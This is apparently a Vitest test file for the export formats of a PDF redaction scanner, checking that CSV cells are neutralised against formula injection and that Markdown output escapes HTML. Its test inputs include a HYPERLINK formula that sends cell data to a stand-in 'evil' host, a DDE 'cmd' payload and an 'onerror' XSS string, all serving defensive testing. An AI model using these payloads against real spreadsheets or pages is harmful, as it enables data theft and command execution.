import { describe, expect, it } from 'vitest'
import type { ScanRedaction, ScanResult } from '@core/types'
import { CSV_HEADER, csvText, mdText, toCsv, toJson, toMarkdown } from './formats'

const redaction = (over: Partial<ScanRedaction> = {}): ScanRedaction => ({
  bbox: [72, 128.456, 372, 142],
  kind: 'black',
  source: 'vector',
  confidence: 0.93,
  label: 's9(2)(a)',
  grounds: ['9(2)(a)'],
  leak: null,
  leakedText: null,
  evidence: ['flat-fill', 'label'],
  status: 'found',
  passage: null,
  ...over
})

const result = (redactions: ScanRedaction[]): ScanResult => ({
  schema: 'withheld.scan/1',
  engine: 'withheld 0.1.0',
  file: 'briefing.pdf',
  sha256: 'ab'.repeat(32),
  pageCount: 2,
  producer: null,
  regime: 'nz-oia',
  pages: [
    {
      index: 0,
      width: 595,
      height: 842,
      rotation: 0,
      scanned: false,
      hasTextLayer: true,
      withheldInFull: false,
      redactions
    },
    {
      index: 1,
      width: 595,
      height: 842,
      rotation: 0,
      scanned: false,
      hasTextLayer: false,
      withheldInFull: false,
      redactions: []
    }
  ],
  summary: {
    redactions: redactions.length,
    pagesWithheldInFull: 0,
    leaks: 0,
    byGround: { '9(2)(a)': redactions.length }
  }
})

/** A minimal RFC 4180 reader, to prove the writer round-trips. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  const endCell = (): void => {
    row.push(cell)
    cell = ''
  }
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ',') endCell()
    else if (c === '\r' && text[i + 1] === '\n') {
      endCell()
      rows.push(row)
      row = []
      i++
    } else cell += c
  }
  return rows
}

describe('CSV', () => {
  it.each([
    ['=HYPERLINK("http://evil/?"&A1)', `"'=HYPERLINK(""http://evil/?""&A1)"`],
    ['+61 4', "'+61 4"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', `"'\rcmd"`],
    ['\0x', "'\0x"],
    ['a, b', '"a, b"'],
    ['line\nbreak', '"line\nbreak"'],
    ['plain', 'plain']
  ])('neutralises and quotes %j', (input, output) => {
    expect(csvText(input)).toBe(output)
  })

  it('writes one row per redaction that round-trips through an RFC 4180 reader', () => {
    const hostile = redaction({
      label: '=cmd|"/c calc"!A1',
      leak: { kind: 'text-under-box', chars: 12, sha256: 'cd'.repeat(32) },
      leakedText: 'Secret, "quoted"\r\nname'
    })
    const csv = toCsv([result([redaction(), hostile])])
    expect(csv.endsWith('\r\n')).toBe(true)
    const rows = parseCsv(csv)
    expect(rows[0]).toEqual([...CSV_HEADER])
    expect(rows).toHaveLength(3)
    expect(rows.every((row) => row.length === CSV_HEADER.length)).toBe(true)
    expect(rows[1]).toEqual([
      'briefing.pdf',
      'ab'.repeat(32),
      '1',
      'no',
      'black',
      'vector',
      '0.93',
      '72',
      '128.46',
      '372',
      '142',
      '9(2)(a)',
      's9(2)(a)',
      '',
      '',
      '',
      '',
      'found',
      'flat-fill; label',
      ''
    ])
    expect(rows[2]!.slice(12)).toEqual([
      `'=cmd|"/c calc"!A1`,
      'text-under-box',
      '12',
      'cd'.repeat(32),
      'Secret, "quoted"\r\nname',
      'found',
      'flat-fill; label',
      ''
    ])
  })

  it('writes only the header for a file without redactions', () => {
    expect(toCsv([result([])])).toBe(`${CSV_HEADER.join(',')}\r\n`)
  })
})

describe('Markdown', () => {
  it('escapes PDF text so it cannot add markup or HTML', () => {
    expect(mdText('<img src=x onerror=alert(1)> | [link](javascript:x) **b**\nnext')).toBe(
      '&lt;img src=x onerror=alert(1)&gt; \\| \\[link\\](javascript:x) \\*\\*b\\*\\* next'
    )
  })

  it('writes a heading, a grounds table and one table per page with redactions', () => {
    const md = toMarkdown(result([redaction(), redaction({ label: null, grounds: [], kind: 'white' })]))
    expect(md).toContain('# briefing.pdf')
    expect(md).toContain('2 pages · 2 redactions · 0 pages withheld in full · 0 leaks · regime nz-oia')
    expect(md).toContain('| 9(2)(a) | 2 |')
    expect(md).toContain('## Page 1')
    expect(md).not.toContain('## Page 2')
    expect(md).toContain('| 1 | black | 72, 128, 372, 142 | 9(2)(a) | s9(2)(a) |  |')
    expect(md).toContain('| 2 | white | 72, 128, 372, 142 |  |  |  |')
  })

  it('adds the leak audit: verdict, counts per kind, each finding by place, escaped, and what was not read', () => {
    const scan: ScanResult = {
      ...result([redaction()]),
      audit: {
        verdict: 'incomplete',
        checked: ['metadata'],
        unread: [{ what: 'attachment 1', why: 'its file data could not be decoded' }],
        counts: { metadata: 1 },
        findings: [
          {
            kind: 'metadata',
            where: 'document information (Subject)',
            pageIndex: null,
            leak: { kind: 'metadata', chars: 12, sha256: 'ab'.repeat(32) },
            text: 'Aroha | <b>Ngata</b>'
          }
        ]
      }
    }
    const md = toMarkdown(scan)
    expect(md).toContain('## Leak audit: incomplete')
    expect(md).toContain('| metadata | 1 |')
    expect(md).toContain(
      `| document information (Subject) | metadata | 12 | \`${'ab'.repeat(8)}\` | Aroha \\| &lt;b&gt;Ngata&lt;/b&gt; |`
    )
    expect(md).toContain('- Not read: attachment 1: its file data could not be decoded')
  })
})

describe('JSON', () => {
  it('is the scan result itself', () => {
    const scan = result([redaction()])
    expect(JSON.parse(toJson(scan))).toEqual(JSON.parse(JSON.stringify(scan)))
  })
})
